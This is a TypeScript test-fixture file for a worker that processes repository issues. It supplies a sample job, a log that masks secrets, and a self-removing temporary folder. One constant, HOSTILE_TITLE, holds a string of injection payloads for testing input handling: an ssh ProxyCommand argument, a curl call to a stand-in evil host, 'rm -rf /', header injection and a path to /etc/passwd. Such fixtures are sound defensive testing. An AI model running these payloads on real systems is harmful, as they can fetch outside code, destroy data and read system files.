/** Plain values for tests of the worker: a job, a log that is remembered, a folder that goes away. */
import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { onTestFinished } from 'vitest'
import { systemClock } from '#lib/clock'
import { createLog, type Log } from '#worker/log'
import { createMask } from '#worker/mask'
import type { Work } from '#worker/protocol'

export const REPOSITORY = 'acme/widgets'

/** Everything in one title that has ever hurt a tool. */
export const HOSTILE_TITLE =
  '-oProxyCommand=x $(curl evil.example) `id` ; rm -rf / \n\rContent-Type: x ../../etc/passwd \u202egnp.\u2066 \u0000 \ud800 fixes #99'

export function aWork(changes: Partial<Work> = {}): Work {
  return {
    repository: REPOSITORY,
    number: 7,
    title: 'Add a greeting',
    body: 'Say hello to whoever calls.',
    labels: ['ai-in-progress'],
    author: 'octocat',
    author_association: 'MEMBER',
    attempt: 1,
    lease: { token: 3, ends_at: Date.parse('2026-01-31T08:10:00Z') },
    previous: null,
    ...changes,
  }
}

export function aLog(secrets: string[] = []): { log: Log; lines: string[] } {
  const lines: string[] = []
  const ports = { clock: systemClock, mask: createMask(secrets), write: (line: string) => void lines.push(line) }
  return { log: createLog(ports, { level: 'debug', plain: false }), lines }
}

/** A temporary folder, removed when the test is over. */
export async function aFolder(): Promise<string> {
  const folder = await mkdtemp(join(tmpdir(), 'coxswain-worker-'))
  onTestFinished(() => rm(folder, { recursive: true, force: true, maxRetries: 5, retryDelay: 50 }))
  return folder
}
